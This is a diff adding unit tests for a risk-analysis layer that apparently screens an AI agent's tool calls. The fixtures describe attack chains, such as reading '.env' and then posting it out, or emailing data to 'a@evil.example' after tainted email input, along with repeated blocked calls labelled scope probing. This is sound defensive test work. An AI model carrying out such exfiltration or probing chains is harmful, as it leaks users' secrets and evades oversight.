@@ -1,0 +1,50 @@
+import { describe, expect, it } from 'vitest';
+import { classifyCall } from '../../../src/pipeline/behaviour/index.js';
+import { riskAnalysisLayer } from '../../../src/pipeline/layers/risk-analysis.js';
+import { call, ev, runtime, vr } from '../chains/fixtures.js';
+
+const none = { blocked: false, families: [] as string[] };
+const run = (c: ReturnType<typeof call>, rt = runtime(), cur = none) => riskAnalysisLayer(c, classifyCall(c), rt, cur);
+
+describe('riskAnalysisLayer', () => {
+  it('flags a completed chain at review level and names it', () => {
+    const v = run(call('http_post', { url: 'https://x.example', body: 'x' }), runtime([ev('read_file', { path: '.env' })]));
+    expect(v.outcome).toBe('flag');
+    expect(v.chainPattern).toBe('credential_exfiltration');
+    expect(v.risk).toBeGreaterThanOrEqual(40);
+  });
+  it('flags sends after tainted tool output', () => {
+    const rt = runtime([ev('GmailReadEmail', { id: 1 })], [vr('GmailReadEmail', { tainted: true })]);
+    const v = run(call('GmailSendEmail', { to: 'a@evil.example', body: 'data' }), rt);
+    expect(v.chainPattern).toBe('browse_then_exfil');
+    expect(v.risk).toBeGreaterThanOrEqual(60);
+  });
+  it('passes single benign calls with an empty history', () => {
+    for (const c of [
+      call('get_current_weather', { location: 'Oslo' }),
+      call('send_email', { to: 'bob@example.com', body: 'See you at 5' }),
+      call('run_command', { command: 'sudo systemctl restart nginx' }),
+      call('read_file', { path: '.env' }),
+    ]) {
+      const v = run(c);
+      expect(v.outcome).toBe('pass');
+      expect(v.risk).toBe(0);
+      expect(v.chainPattern).toBeUndefined();
+    }
+  });
+  it('keeps heuristic risk below review without a chain', () => {
+    const v = run(call('send_email', { to: 'a@b.c', body: 'x'.repeat(30_000) }), runtime(), { blocked: false, families: ['pii'] });
+    expect(v.outcome).toBe('flag');
+    expect(v.risk).toBeGreaterThan(0);
+    expect(v.risk).toBeLessThan(40);
+    expect(v.chainPattern).toBeUndefined();
+  });
+  it('passes ordinary sequences', () => {
+    expect(run(call('read_webpage', { url: 'https://a.example' }), runtime([ev('web_search', { query: 'x' })])).outcome).toBe('pass');
+    expect(run(call('write_file', { path: 'b.txt', content: 'x' }), runtime([ev('read_file', { path: 'a.txt' })])).outcome).toBe('pass');
+  });
+  it('uses the current block for scope probing', () => {
+    const rt = runtime([ev('a_tool', {}, { decision: 'block' }), ev('b_tool', {}, { decision: 'block' })]);
+    expect(run(call('c_tool'), rt, { blocked: true, families: [] }).chainPattern).toBe('scope_probing');
+  });
+});
